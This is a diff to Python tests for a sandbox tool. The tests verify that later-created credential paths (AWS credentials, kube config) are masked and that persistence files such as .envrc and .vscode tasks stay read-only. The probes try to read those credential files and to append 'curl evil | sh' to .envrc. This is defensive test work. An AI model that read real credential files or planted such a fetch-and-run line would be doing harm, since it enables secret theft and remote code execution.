@@ -21,7 +21,7 @@ from nonod.profiles import CliOverrides, ResolveContext, load_profile, parse_pro
 
 from ..conftest import Result, SandboxUser
 from .test_sandbox import policy, probe
-from .test_viewguard import WAIT, _meanwhile
+from .test_viewguard import WAIT, _masked, _meanwhile, _read_only
 
 #: Every test here launches a session in new namespaces.
 pytestmark = pytest.mark.userns
@@ -102,8 +102,10 @@ def test_a_session_that_does_nothing_leaves_the_host_home_as_it_was(
 
 
 def _run_while(sandbox_user: SandboxUser, pol: ResolvedPolicy, work: Path,
-               change: Callable[[], None], code: str) -> Result:
-    thread = _meanwhile(work, change)
+               change: Callable[[], None], code: str,
+               restored: Callable[[Path], bool]) -> Result:
+    """Run ``code`` once ``change`` is made and the session's view shows ``restored``."""
+    thread = _meanwhile(work, change, restored)
     try:
         return sandbox_user.run(pol, probe(WAIT + code), cwd=str(work))
     finally:
@@ -129,7 +131,9 @@ def test_denied_paths_the_host_creates_later_are_masked_at_any_depth(
                    f"t(lambda: open('{aws}/credentials').read())\n"
                    f"t(lambda: os.listdir('{aws}'))\n"
                    f"t(lambda: open('{kube}/config').read())\n"
-                   f"t(lambda: open('{kube}/config', 'a').write('x'))\n")
+                   f"t(lambda: open('{kube}/config', 'a').write('x'))\n",
+                   lambda view: _masked(view, aws) and (_masked(view, kube / "config")
+                                                        or _read_only(view, kube / "config")))
     assert r.code == 0, r.stderr
     assert r.stdout.split("\n")[:4] in (["EACCES", "EACCES", "EACCES", "EACCES"],
                                         ["EACCES", "EACCES", "EACCES", "EROFS"])
@@ -152,7 +156,9 @@ def test_persistence_files_the_host_creates_later_are_read_only(
                    "t(lambda: open('.envrc', 'a').write('curl evil | sh\\n'))\n"
                    "t(lambda: open('.vscode/settings.json', 'w').write('{}'))\n"
                    "t(lambda: open('.vscode/tasks.json', 'w').write('{}'))\n"
-                   "t(lambda: open('.envrc').read().strip())\n")
+                   "t(lambda: open('.envrc').read().strip())\n",
+                   lambda view: _read_only(view, work / ".envrc")
+                   and _read_only(view, work / ".vscode"))
     assert r.code == 0, r.stderr
     assert r.stdout.split("\n")[:4] == ["EROFS", "EROFS", "EROFS", "OK export A=1"]
     assert (work / ".envrc").read_text() == "export A=1\n"
